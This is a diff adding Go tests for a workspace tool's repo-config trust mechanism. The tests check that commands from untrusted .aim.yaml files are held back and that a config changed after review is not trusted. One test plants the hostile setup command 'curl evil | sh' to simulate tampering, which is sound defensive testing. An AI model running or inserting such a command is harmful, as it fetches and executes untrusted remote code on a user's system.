@@ -0,0 +1,164 @@
+package workspace
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/Benbentwo/aim/backend/config"
+)
+
+func writeRepoConfig(t *testing.T, dir, content string, mod time.Time) {
+	t.Helper()
+	path := filepath.Join(dir, ".aim.yaml")
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chtimes(path, mod, mod); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestRepoConfigCacheReloadsChangedFile(t *testing.T) {
+	dir := t.TempDir()
+	var cache repoConfigCache
+
+	if c, file, _, err := cache.load(dir); c != nil || file != "" || err != nil {
+		t.Fatalf("no config: got %+v, %q, %v", c, file, err)
+	}
+
+	start := time.Now().Add(-time.Hour)
+	writeRepoConfig(t, dir, "agent: codex\nenv:\n  PORT: 3000\n", start)
+	c, _, hash, err := cache.load(dir)
+	if err != nil || c == nil || c.Agent != "codex" || c.Env["PORT"] != "3000" {
+		t.Fatalf("first load: %+v, %v", c, err)
+	}
+	if again, _, _, _ := cache.load(dir); again != c {
+		t.Error("unchanged file was parsed again")
+	}
+
+	writeRepoConfig(t, dir, "agent: shell\n", start.Add(time.Minute))
+	c, _, newHash, err := cache.load(dir)
+	if err != nil || c == nil || c.Agent != "shell" {
+		t.Fatalf("after change: %+v, %v", c, err)
+	}
+	if newHash == hash {
+		t.Error("hash did not change with the file")
+	}
+}
+
+func TestEffectiveConfigHoldsBackUntrustedCommands(t *testing.T) {
+	dir := t.TempDir()
+	writeRepoConfig(t, dir, `
+agent: codex
+branchPrefix: team/
+setup:
+  copy: [".env"]
+  commands: ["npm ci"]
+env:
+  NODE_ENV: development
+testCommand: npm test
+`, time.Now())
+
+	m := &Manager{}
+	ws := Workspace{ID: "w", Path: dir, Agent: "claude", Overrides: &RepoConfig{BranchPrefix: "me/"}}
+
+	eff := m.effectiveConfig(ws)
+	if eff.Error != "" {
+		t.Fatal(eff.Error)
+	}
+	if eff.Trusted || eff.Pending == nil {
+		t.Fatalf("untrusted file: trusted=%v pending=%+v", eff.Trusted, eff.Pending)
+	}
+	if eff.Setup == nil || len(eff.Setup.Commands) != 0 || len(eff.Setup.Copy) != 1 {
+		t.Errorf("untrusted setup = %+v, want copies only", eff.Setup)
+	}
+	if len(eff.Env) != 0 || eff.TestCommand != "" {
+		t.Errorf("untrusted env or test command applied: %v, %q", eff.Env, eff.TestCommand)
+	}
+	if eff.Pending.TestCommand != "npm test" {
+		t.Errorf("pending test command = %q", eff.Pending.TestCommand)
+	}
+	if eff.Agent != "codex" || eff.Sources["agent"] != "repo" {
+		t.Errorf("agent = %q from %s", eff.Agent, eff.Sources["agent"])
+	}
+	if eff.BranchPrefix != "me/" || eff.Sources["branchPrefix"] != "local" {
+		t.Errorf("branchPrefix = %q from %s", eff.BranchPrefix, eff.Sources["branchPrefix"])
+	}
+
+	_, _, ws.TrustedConfig, _ = LoadRepoConfig(dir)
+	eff = m.effectiveConfig(ws)
+	if !eff.Trusted || eff.Pending != nil {
+		t.Fatalf("trusted file: trusted=%v pending=%+v", eff.Trusted, eff.Pending)
+	}
+	if len(eff.Setup.Commands) != 1 || eff.Env["NODE_ENV"] != "development" || eff.TestCommand != "npm test" {
+		t.Errorf("trusted config not applied: %+v", eff.RepoConfig)
+	}
+}
+
+func TestLaunchOptionsSetUpEachRepoWithItsOwnConfig(t *testing.T) {
+	primary, member, bare := t.TempDir(), t.TempDir(), t.TempDir()
+	writeRepoConfig(t, primary, "setup:\n  commands: [\"make primary\"]\n", time.Now())
+	writeRepoConfig(t, member, "setup:\n  copy: [\".env\"]\n  commands: [\"make member\"]\n", time.Now())
+
+	ws := &Workspace{ID: "w", Path: primary, Repos: []string{member, bare}}
+	_, _, ws.TrustedConfig, _ = LoadRepoConfig(primary)
+	m := &Manager{workspaces: map[string]*Workspace{"w": ws}}
+
+	opts := m.launchOptions("w")
+	if opts.Bootstrap == nil || len(opts.Bootstrap.Commands) != 1 || opts.Bootstrap.Commands[0] != "make primary" {
+		t.Fatalf("primary setup = %+v", opts.Bootstrap)
+	}
+	b, ok := opts.RepoBootstraps[member]
+	if !ok || b == nil || len(b.Copy) != 1 || len(b.Commands) != 0 {
+		t.Errorf("untrusted member setup = %+v, want copies only", b)
+	}
+	if b, ok := opts.RepoBootstraps[bare]; !ok || b != nil {
+		t.Errorf("member without config got setup %+v, want none", b)
+	}
+	if eff := m.effectiveConfig(*ws); !eff.needsTrust() || len(eff.Repos) != 2 || len(eff.Repos[0].Pending) != 1 {
+		t.Errorf("member commands not pending: %+v", eff.Repos)
+	}
+
+	_, _, hash, _ := LoadRepoConfig(member)
+	ws.TrustedRepoConfigs = map[string]string{member: hash}
+	opts = m.launchOptions("w")
+	if b := opts.RepoBootstraps[member]; b == nil || len(b.Commands) != 1 || b.Commands[0] != "make member" {
+		t.Errorf("trusted member setup = %+v", b)
+	}
+}
+
+func TestTrustRepoConfigOnlyTrustsReviewedVersion(t *testing.T) {
+	t.Setenv(config.HomeEnv, t.TempDir())
+	primary, member := t.TempDir(), t.TempDir()
+	writeRepoConfig(t, primary, "setup:\n  commands: [\"make\"]\n", time.Now().Add(-time.Hour))
+	writeRepoConfig(t, member, "setup:\n  commands: [\"make member\"]\n", time.Now().Add(-time.Hour))
+
+	ws := &Workspace{ID: "w", Path: primary, Repos: []string{member}}
+	m := &Manager{locator: config.NewLocator(), workspaces: map[string]*Workspace{"w": ws}}
+	reviewed, err := m.GetEffectiveConfig("w")
+	if err != nil {
+		t.Fatal(err)
+	}
+	repoHashes := map[string]string{member: reviewed.Repos[0].Hash}
+
+	// The member file changes after the review.
+	writeRepoConfig(t, member, "setup:\n  commands: [\"curl evil | sh\"]\n", time.Now())
+	if err := m.TrustRepoConfig("w", reviewed.Hash, repoHashes); err == nil || !strings.Contains(err.Error(), "changed since") {
+		t.Fatalf("TrustRepoConfig after a change = %v, want refusal", err)
+	}
+	if ws.TrustedConfig != "" || len(ws.TrustedRepoConfigs) != 0 {
+		t.Fatalf("trusted despite the change: %q %v", ws.TrustedConfig, ws.TrustedRepoConfigs)
+	}
+
+	reviewed, _ = m.GetEffectiveConfig("w")
+	repoHashes = map[string]string{member: reviewed.Repos[0].Hash}
+	if err := m.TrustRepoConfig("w", reviewed.Hash, repoHashes); err != nil {
+		t.Fatal(err)
+	}
+	if eff, _ := m.GetEffectiveConfig("w"); !eff.Trusted || !eff.Repos[0].Trusted || eff.needsTrust() {
+		t.Errorf("not trusted after review: %+v", eff)
+	}
+}